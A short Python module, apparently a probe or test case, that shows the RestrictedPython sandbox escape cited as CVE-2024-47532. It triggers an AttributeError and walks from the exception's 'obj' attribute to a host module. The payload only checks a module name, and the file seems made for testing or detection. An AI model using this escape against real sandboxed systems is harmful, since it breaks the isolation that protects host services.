"""Get the module behind a view back from an AttributeError."""

from __future__ import annotations

import json

ORIGIN = "RestrictedPython, CVE-2024-47532: AttributeError.obj."
SEEN = "claimed"
LANGUAGE = "dialect"


def attack(target):
    try:
        getattr(json, "miss" + "ing")
    except AttributeError as problem:
        return len(problem.obj.codecs.__name__) > 0
